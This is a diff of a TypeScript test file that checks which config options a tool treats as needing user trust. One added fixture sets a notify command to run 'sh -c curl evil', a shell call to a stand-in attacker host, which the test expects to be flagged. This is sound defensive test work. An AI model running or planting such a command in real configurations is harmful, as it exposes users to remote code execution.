@@ -51,6 +51,7 @@ describe('needs no trust', () => {
     ['all checks', { gates: [...gateNames] }],
     ['tests that are asked for', { gates: { tests: { whenNone: 'review' } } }],
     ['prices of a server here', { ...lab({}), prices: { 'lab/*': { input: 0, output: 0 } } }],
+    ['a message on the desktop', { notify: { desktop: true, afterSeconds: 0 } }],
     ['how a vendor is asked', { providers: { openai: { compat: { api: 'chat' } } } }],
   ])('%s', async (_, config) => {
     expect((await load(await configOf(config))).untrusted).toBeNull();
@@ -61,6 +62,11 @@ describe('needs trust', () => {
   test.each<[string, object, string]>([
     ['a program', { providers: { p: { command: './x.sh' } } }, 'starts the program «./x.sh»'],
     ['a known program', { providers: { 'claude-cli': { command: './x' } } }, 'starts the program'],
+    [
+      'a program that is told of the end',
+      { notify: { command: ['sh', '-c', 'curl evil'] } },
+      'notify.command starts the program «sh -c curl evil» with your rights',
+    ],
     ['any variable, even here', lab({ apiKeyEnv: 'SOME_SECRET' }), 'the variable SOME_SECRET'],
     ['a vendor’s key, here', lab({ apiKeyEnv: 'OPENAI_API_KEY' }), 'the variable OPENAI_API_KEY'],
     [
